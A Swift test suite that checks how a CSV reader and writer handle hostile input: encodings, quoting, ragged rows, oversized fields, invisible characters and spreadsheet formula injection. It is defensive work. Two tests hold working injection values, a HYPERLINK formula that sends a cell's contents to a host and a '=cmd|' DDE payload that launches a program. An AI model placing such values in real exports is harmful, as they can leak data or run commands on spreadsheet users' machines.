import Foundation
import Testing
import DossierIO
import DossierModel
import DossierSources

/// The hostile CSV inputs C1–C19 of reliability.md §3, each with the outcome it must produce.
@Suite struct CSVHostileTests {
    func hostile(_ name: String) -> String { csvFixture("hostile/csv/\(name)") }

    func error(_ name: String, _ options: CSVReadOptions = CSVReadOptions()) -> DossierError? {
        #expect(throws: DossierError.self) { try csvReadAll(hostile(name), options) }
    }

    /// What `CSVWriter` makes of one field, as text.
    func written(_ field: String?, _ options: CSVWriter.Options = CSVWriter.Options(byteOrderMark: false)) throws -> String {
        let sink = MemorySink()
        try CSVWriter(sink: sink, options: options).write([field])
        return String(decoding: sink.bytes, as: UTF8.self)
    }

    @Test func c1FormulaIsVerbatimInRowsAndNeutralisedInSpreadsheetCSV() throws {
        let (_, rows) = try csvReadAll(hostile("formula-eq.csv"))
        let formula = "=HYPERLINK(\"http://x/?\"&A1,\"x\")"
        #expect(rows[0]["notitie"] == .text(formula))
        #expect(try written(formula) == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\"\r\n")
    }

    @Test func c2EveryTriggerIsNeutralised() throws {
        let (_, rows) = try csvReadAll(hostile("formula-variants.csv"))
        let values = rows.compactMap { csvTexts($0)[1] }
        #expect(values == ["+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2", "=cmd|'/c calc'!A1"])
        for value in values {
            let out = try written(value)
            #expect(out == "\"'" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\"\r\n")
            let back = try csvReadAll(try csvTempFile(Array(out.utf8)), CSVReadOptions(delimiter: UInt8(ascii: ";"), header: .numbered))
            #expect(back.1.map(csvTexts) == [["'" + value]])
        }
    }

    /// Documents the data change: phone numbers get a `'` in spreadsheet CSV, and only there.
    @Test func c3DutchPhoneNumbersArePrefixedOnlyForSpreadsheets() throws {
        let (_, rows) = try csvReadAll(hostile("nl-phone.csv"))
        #expect(rows.map { $0["telefoon"] } == [.text("+31 6 12345678"), .text("-5")])
        #expect(try written("+31 6 12345678") == "\"'+31 6 12345678\"\r\n")
        #expect(try written("-5") == "\"'-5\"\r\n")
        let verbatim = CSVWriter.Options(byteOrderMark: false, neutraliseFormulas: false)
        #expect(try written("+31 6 12345678", verbatim) == "+31 6 12345678\r\n")
    }

    @Test func c4DelimiterInAValueIsQuoted() throws {
        let (reader, rows) = try csvReadAll(hostile("sep-injection.csv"))
        #expect(reader.dialect.delimiter == UInt8(ascii: ","))
        #expect(rows[0]["waarde"] == .text("foo;=1+2"))
        #expect(try written("foo;=1+2") == "\"foo;=1+2\"\r\n")
    }

    @Test func c5ByteOrderMarkIsRemoved() throws {
        let (reader, rows) = try csvReadAll(hostile("bom-utf8.csv"))
        #expect(reader.columns == ["naam", "leeftijd"])
        #expect(reader.encoding == EncodingChoice(.utf8, .byteOrderMark))
        #expect(rows[0]["naam"] == .text("Jan"))
    }

    @Test func c6ExcelUnicodeTextIsDecoded() throws {
        let (reader, rows) = try csvReadAll(hostile("utf16le-tab.csv"))
        #expect(reader.encoding == EncodingChoice(.utf16LE, .byteOrderMark))
        #expect(reader.dialect == CSVDialect(delimiter: 0x09, evidence: .detected))
        #expect(rows.map(csvTexts) == [["Joëlle", "'s-Hertogenbosch"], ["Zoë 😀", "Groningen"]])
    }

    @Test func c7Windows1252IsDecodedOrRefusedNeverMojibake() throws {
        let (reader, rows) = try csvReadAll(hostile("cp1252.csv"))
        #expect(reader.encoding == EncodingChoice(.windows1252, .heuristic))
        #expect(csvTexts(rows[0]) == ["Café", "€ 5", "it’s"])
        let strict = error("cp1252.csv", CSVReadOptions(encoding: .utf8))
        #expect(strict?.code == "encoding.invalid-utf8")
        #expect(strict?.location == SourceLocation(file: hostile("cp1252.csv"), line: 2, column: 4))
        #expect(strict?.diagnostic.message.contains("byte offset 24") == true)
    }

    @Test func c8MixedEncodingsAreRefused() {
        let guessed = error("mixed-encoding.csv")
        #expect(guessed?.code == "encoding.mixed")
        #expect(guessed?.location?.line == 2)
        let utf8 = error("mixed-encoding.csv", CSVReadOptions(encoding: .utf8))
        #expect(utf8?.code == "encoding.invalid-utf8")
        #expect(utf8?.location == SourceLocation(file: hostile("mixed-encoding.csv"), line: 3, column: 3))
    }

    @Test func c9UndefinedWindows1252ByteIsAnError() {
        let e = error("cp1252-undefined.csv")
        #expect(e?.code == "encoding.cp1252-undefined")
        #expect(e?.location == SourceLocation(file: hostile("cp1252-undefined.csv"), line: 2, column: 3))
    }

    @Test func c10DutchDecimalsStayText() throws {
        let (reader, rows) = try csvReadAll(hostile("nl-decimal.csv"))
        #expect(reader.dialect == CSVDialect(delimiter: UInt8(ascii: ";"), evidence: .detected))
        #expect(rows.map(csvTexts) == [["1.234,56", "a;b"], ["-7,5", "c"]])
    }

    @Test func c11SepLineIsHonouredAndNotTheHeader() throws {
        let (reader, rows) = try csvReadAll(hostile("sep-directive.csv"))
        #expect(reader.dialect == CSVDialect(delimiter: UInt8(ascii: ";"), evidence: .sepLine))
        #expect(reader.columns == ["naam", "plaats"])
        #expect(csvTexts(rows[0]) == ["Jan", "Utrecht"])
        #expect(rows[0].location.line == 3)
    }

    @Test func c12QuotesStrictAndLenient() throws {
        #expect(try csvReadAll(hostile("quotes-escaped.csv")).1[0]["tekst"] == .text("a \"b\" c"))
        let cases: [(file: String, code: String, column: Int, lenient: String)] = [
            ("quotes-bare.csv", "csv.bare-quote", 5, "ab\"c"),
            ("quotes-space.csv", "csv.bare-quote", 4, " \"b\""),
            ("quotes-after-close.csv", "csv.text-after-quote", 7, "ab\"c"),
            ("quotes-unterminated.csv", "csv.unterminated-quote", 3, "unterminated\n"),
        ]
        for c in cases {
            let e = error(c.file)
            #expect(e?.code == c.code, "\(c.file)")
            #expect(e?.location == SourceLocation(file: hostile(c.file), line: 2, column: c.column), "\(c.file)")
            let (reader, rows) = try csvReadAll(hostile(c.file), CSVReadOptions(lenient: true))
            #expect(rows.map { $0["tekst"] } == [.text(c.lenient)], "\(c.file)")
            // ` "b"` has two bare quotes, so two warnings.
            #expect(reader.diagnostics.listed.map(\.code) == Array(repeating: c.code, count: c.file == "quotes-space.csv" ? 2 : 1))
            #expect(reader.diagnostics.listed.allSatisfy { $0.severity == .warning })
        }
    }

    @Test func c13LineEndsFollowCsvSpectrum() throws {
        let (mixed, rows) = try csvReadAll(hostile("newlines-mixed.csv"))
        #expect(rows.map(csvTexts) == [["1", "2"], ["3", "4"], ["5", "x\r\ny"], ["6", "7"]])
        #expect(rows.map(\.location.line) == [2, 3, 4, 6])
        #expect(mixed.blankLinesSkipped == 2)
        let (_, last) = try csvReadAll(hostile("newlines-no-final.csv"))
        #expect(last.map(csvTexts) == [["1", "2"], ["3", "4\n5"]])
    }

    @Test func c14RaggedRecordsAreErrorsUnlessLenient() throws {
        let e = error("ragged.csv")
        #expect(e?.code == "csv.ragged")
        #expect(e?.location?.line == 3)
        #expect(e?.diagnostic.message.contains("record 2 has 2 fields") == true)
        let (reader, rows) = try csvReadAll(hostile("ragged.csv"), CSVReadOptions(lenient: true))
        #expect(rows[1].values == [.text("4"), .text("5"), .null])
        #expect(rows[2].columns == ["a", "b", "c", "column4"])
        #expect(rows[2]["column4"] == .text("9"))
        #expect(reader.diagnostics.listed.map(\.location?.line) == [3, 4])
    }

    @Test func c15NulIsRefusedEvenWhenLenient() {
        for lenient in [false, true] {
            let e = error("nul.csv", CSVReadOptions(lenient: lenient))
            #expect(e?.code == "csv.nul")
            #expect(e?.location == SourceLocation(file: hostile("nul.csv"), line: 2, column: 4))
        }
    }

    @Test func c16GiantUnclosedFieldStopsAtTheCapWithBoundedMemory() throws {
        let url = try csvTempDirectory().appendingPathComponent("giant-field.csv")
        _ = FileManager.default.createFile(atPath: url.path, contents: Data("a,b\n1,\"".utf8))
        let handle = try FileHandle(forWritingTo: url)
        try handle.seekToEnd()
        let megabyte = Data(repeating: UInt8(ascii: "x"), count: 1 << 20)
        for _ in 0..<100 { try handle.write(contentsOf: megabyte) }
        try handle.close()
        defer { try? FileManager.default.removeItem(at: url) }
        let before = try csvStatusKiB("VmRSS")
        let e = #expect(throws: DossierError.self) { try csvReadAll(url.path) }
        #expect(e?.code == "csv.field-too-large")
        #expect(e?.location == SourceLocation(file: url.path, line: 2, column: 3))
        #expect(try csvStatusKiB("VmRSS") - before < 32 * 1024)
    }

    @Test func c17BadHeadersAreErrors() throws {
        #expect(error("headers-duplicate.csv")?.code == "csv.header-duplicate")
        #expect(error("headers-empty.csv")?.code == "csv.header-empty")
        #expect(error("headers-whitespace.csv")?.code == "csv.header-empty")
        #expect(error("headers-bom-only.csv")?.code == "csv.no-header")
        let wide = try csvTempFile(Array((String(repeating: "c,", count: 999_999) + "c\n").utf8))
        let e = #expect(throws: DossierError.self) { try csvReadAll(wide) }
        #expect(e?.code == "csv.too-many-columns")
        let limit = (1...10_000).map { "c\($0)" }.joined(separator: ",") + "\n"
        #expect(try CSVReader(path: try csvTempFile(Array(limit.utf8))).columns.count == 10_000)
    }

    @Test func c18ExcelDamageIsImportedWithAWarning() throws {
        let (reader, rows) = try csvReadAll(hostile("excel-mangled.csv"))
        #expect(csvTexts(rows[0]) == ["9,1E+08", "612345678", "1-2-2003"])
        #expect(reader.diagnostics.listed.map(\.code) == ["csv.excel-scientific"])
        #expect(reader.diagnostics.listed[0].message.contains("field 1"))
    }

    @Test func c19InvisibleCharactersArePreservedAndFlagged() throws {
        let (reader, rows) = try csvReadAll(hostile("bidi.csv"))
        #expect(rows.map { $0["naam"] } == [.text("Jan\u{202E}evil"), .text("Pi\u{200B}et"), .text("Piet")])
        #expect(reader.diagnostics.listed.map(\.code) == ["csv.invisible-character", "csv.invisible-character"])
        #expect(reader.diagnostics.listed.map(\.location?.line) == [2, 3])
        #expect(reader.diagnostics.listed.allSatisfy { !$0.message.contains("Jan") && !$0.message.contains("Pi") })
    }
}
